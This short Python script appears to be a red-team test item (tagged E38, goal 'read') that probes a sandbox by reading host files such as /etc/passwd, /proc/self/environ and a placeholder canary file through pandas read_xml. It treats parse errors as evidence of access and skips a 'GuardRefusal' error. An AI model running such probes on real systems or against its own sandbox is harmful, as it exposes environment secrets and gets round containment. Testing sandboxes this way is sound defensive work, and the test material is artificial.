# technique: pd.read_xml(parser="etree") on host files (only existing paths: pandas parses a missing name as literal XML): the parse error proves the file was read; df only if some target was read
# goal: read
# redteam: E38
import os
import pathlib

import pandas as pd

TARGETS = ["{{CANARY_FILE}}", "/etc/passwd", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/maps"]
rows = []
for path in TARGETS:
    if not os.path.exists(path):  # pandas would parse the name itself as a literal document
        continue
    try:
        result = pd.read_xml(pathlib.Path(path), parser="etree")
    except (OSError, ImportError):  # not readable here (or the reader is missing): no evidence
        continue
    except Exception as exc:  # the file was opened and parsed: the error is the evidence
        if type(exc).__name__ == "GuardRefusal":
            continue
        rows.append({"target": path, "evidence": f"{type(exc).__name__}: {exc}"[:500]})
    else:
        rows.append({"target": path, "evidence": str(result)[:2000]})
if not rows:
    raise RuntimeError("no target was readable")
df = pd.DataFrame(rows)
